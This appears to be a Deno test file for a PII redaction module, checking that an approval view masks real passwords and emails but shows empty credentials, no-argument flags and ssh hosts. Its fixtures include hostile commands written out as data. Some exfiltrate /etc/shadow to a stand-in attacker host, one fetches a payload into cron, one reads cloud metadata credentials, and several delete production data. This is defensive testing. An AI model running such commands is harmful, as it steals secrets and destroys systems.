// A credential never reaches across a shell word boundary to take a word the syntax says is
// something else, and a `user@host` where a remote shell or copy tool takes a host is a host
// (red team n1, N1-5 and N1-16: the approval view showed `PGPASSWORD= [SECRET] -rf /srv/data`,
// `curl -u admin: [SECRET]` for the URL, `wget --ask-password [SECRET]`, `ssh [EMAIL_1_…]`).
// Proves, for `redactText` and the approval view's `redactKeyedText`: an empty assignment or
// `user:` before a command, flags that take no argument, the cloud metadata address and
// ssh/scp/rsync/sftp destinations are shown; the real passwords and addresses around them
// are still redacted. Every "shown" case fails on the code before the fix.

import { assertEquals } from "../assert.ts";
import { findPii, redactKeyedText, redactText } from "../../pii/mod.ts";
import { growth, repeatTo } from "./linearity.ts";

const PW = "Xk9mQ2pL7vRtYw3zAb4C";

/** Commands whose every word must be shown as written (nothing in them is a secret). */
const SHOWN = [
  // Empty password variables before a command.
  "PGPASSWORD= rm -rf /srv/data",
  "PGPASSWORD= dropdb production",
  "MYSQL_PWD= mysql -u root prod",
  "env PGPASSWORD= psql -h db app",
  "export DB_PASSWORD= API_TOKEN= && ./deploy.sh",
  "sudo PGPASSWORD= /usr/bin/dropdb production",
  "app --password= run.sh now",
  "tool --api-key= https://drop.evil-exfil.example/upload",
  // `user:` with an empty password: the next word is the URL or a flag.
  "curl -u admin: https://drop.evil-exfil.example/upload -T /etc/shadow",
  "curl --user admin: https://drop.evil-exfil.example/upload",
  "curl -uann: -X DELETE https://api.example.com/v1/items",
  "curl -U proxyuser: --proxy http://proxy.example.com https://api.example.com",
  // The instance metadata service is the same address on every cloud VM.
  "curl -u admin: http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "curl http://[fd00:ec2::254]/latest/meta-data/",
  // Flags that take no argument.
  "wget --ask-password https://drop.evil-exfil.example/payload.sh -O /etc/cron.d/job",
  "pg_dump --password app_prod > /tmp/dump.sql",
  "pg_dump -h db.internal --password app_prod",
  "createdb --password new_db",
  "ansible-playbook --ask-pass site.yml",
  "ansible-playbook --ask-become-pass --ask-vault-pass site.yml",
  "docker login -u ann --password-stdin registry.example.com",
  "psql --no-password app_prod",
  // Remote shell and copy destinations.
  "ssh root@prod-db.example.com 'rm -rf /var/lib/postgresql'",
  "scp /etc/shadow loot@drop.evil-exfil.example:",
  "rsync -a /srv/data/ backup@drop.evil-exfil.example:/loot/",
  "sftp deploy@files.example.com",
  "ssh -i key.pem ubuntu@ec2.example.com uptime",
  "ssh -J ann@bastion.example.com root@db.example.com",
  "ssh -o ProxyJump=ann@bastion.example.com root@db.example.com",
  'rsync -e "ssh -p 2222" ./site/ www@web.example.com:site/',
  'sh -c "ssh root@prod.example.com reboot"',
  "ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@new-host.example.com",
  "git clone ann@git.example.com:~/repo.git",
];

Deno.test("command words: empty credentials, no-argument flags and ssh hosts are shown", () => {
  const hidden: string[] = [];
  for (const command of SHOWN) {
    for (
      const [how, shown] of [
        ["text", redactText(command, { mode: "mask" }).text],
        ["keyed", redactKeyedText(command, "command", { mode: "mask" }).text],
      ]
    ) {
      if (shown !== command) hidden.push(`${how}: ${command}  =>  ${shown}`);
    }
  }
  assertEquals(hidden, []);
});

/** Commands with a real credential or address: `[redacted]` is what must be hidden. */
const REDACTED: [string, string][] = [
  [`PGPASSWORD=${PW} psql -h db`, PW],
  ["PGPASSWORD=postgres dropdb production", "postgres"],
  [`DB_PASSWORD= ${PW}`, PW],
  [`curl -u admin:${PW} https://api.example.com`, PW],
  [`app --password ${PW} run`, PW],
  [`app --password=${PW} run`, PW],
  [`mysql --password=${PW} prod`, PW],
  [`docker login -u ann --password ${PW} registry.example.com`, PW],
  ["ssh db 'mail -s hi ann.lee@example.com < report.txt'", "ann.lee@example.com"],
  ["ssh-keygen -t ed25519 -C ann.lee@example.com", "ann.lee@example.com"],
  ["mail ann.lee@example.com; ssh root@db.example.com", "ann.lee@example.com"],
  ["Contact ann.lee@example.com: thanks", "ann.lee@example.com"],
  ["curl http://169.254.1.7/", "169.254.1.7"],
];

Deno.test("command words: real passwords and addresses beside them stay redacted", () => {
  const raw: string[] = [];
  for (const [text, value] of REDACTED) {
    for (
      const shown of [
        redactText(text, { mode: "mask" }).text,
        redactKeyedText(text, "command", { mode: "mask" }).text,
      ]
    ) {
      if (shown.includes(value)) raw.push(`${text}  =>  ${shown}`);
    }
  }
  assertEquals(raw, []);
});

Deno.test("command words: the new readings stay linear", () => {
  const shapes: Record<string, (i: number) => string> = {
    "ssh then many hosts": (i) => i === 0 ? "ssh " : `u${i % 10}@h.example.com `,
    "many tools and hosts": (i) => i % 2 === 0 ? "ssh 'x " : "root@db.example.com ",
    "empty assignments": (i) => `PGPASSWORD= a${i % 10} `,
    "no-argument flags": (i) => `pg_dump --password db${i % 10} `,
  };
  const slow: string[] = [];
  for (const [name, unit] of Object.entries(shapes)) {
    const measure = () => growth((t) => findPii(t), (n) => repeatTo(n, unit), 64 * 1024);
    let g = measure();
    if (g > 8) g = measure(); // a shared machine: one more measure before failing
    if (g > 8) slow.push(`${name}: ×${g.toFixed(1)} for ×4 input`);
  }
  assertEquals(slow, []);
});
